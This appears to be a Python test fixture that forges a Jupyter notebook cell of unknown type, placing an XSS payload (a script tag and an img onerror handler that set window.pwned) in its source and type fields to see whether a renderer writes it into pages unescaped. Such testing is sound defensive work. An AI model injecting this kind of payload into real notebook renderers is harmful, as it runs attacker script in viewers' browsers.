# notebook
"""A cell of no known type in a later version of the format, where nbformat allows it: its type is written into pages."""

from nbformat import from_dict


def forge(notebook, folder):
    script = "<script>window.pwned=1</script><img src=x onerror=window.pwned=1>"
    notebook.nbformat_minor = 6
    notebook.cells.append(from_dict({"cell_type": "evil", "metadata": {}, "source": script, "type": script}))
